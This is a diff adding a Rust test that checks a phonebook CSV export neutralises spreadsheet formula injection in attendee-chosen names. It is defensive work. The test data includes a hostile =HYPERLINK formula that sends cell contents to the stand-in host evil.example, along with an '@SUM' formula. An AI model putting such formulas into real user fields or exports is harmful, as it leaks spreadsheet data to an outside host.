@@ -287,3 +287,52 @@ async fn admin_entries_are_checked_and_only_admins_may_change_them() {
         assert!(r.text().await.unwrap().contains("<html"), "a friendly page");
     }
 }
+
+#[tokio::test]
+async fn csv_cells_a_spreadsheet_would_run_are_neutralised() {
+    // Through the API, the way any attendee-chosen name arrives, so the validation in between
+    // is part of what is tested.
+    let api = crate::api_support::Api::start().await;
+    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    for (number, name) in [("2001", hostile), ("2002", "@SUM(1+1)"), ("2003", "Plain")] {
+        let (s, v) = api
+            .rw(
+                reqwest::Method::POST,
+                "/extensions",
+                Some(serde_json::json!({"number": number, "name": name, "kind": "handset"})),
+            )
+            .await;
+        assert_eq!(s, StatusCode::CREATED, "{v}");
+    }
+    let text = fetch(&api.app, "/phonebook.csv", None)
+        .await
+        .text()
+        .await
+        .unwrap();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let rows: Vec<(String, String)> = reader
+        .records()
+        .map(|r| {
+            let r = r.unwrap();
+            (r[0].to_string(), r[1].to_string())
+        })
+        .collect();
+    let name = |number: &str| rows.iter().find(|(_, n)| n == number).unwrap().0.clone();
+    assert_eq!(name("2001"), format!("'{hostile}"));
+    assert_eq!(name("2002"), "'@SUM(1+1)");
+    assert_eq!(name("2003"), "Plain");
+    for (cell, _) in &rows {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell:?}"
+        );
+    }
+    // The other formats are not spreadsheets: the name stays as it was given.
+    let json = fetch(&api.app, "/phonebook.json", None)
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(json.contains("=HYPERLINK"), "{json}");
+    assert!(!json.contains("'=HYPERLINK"), "{json}");
+}
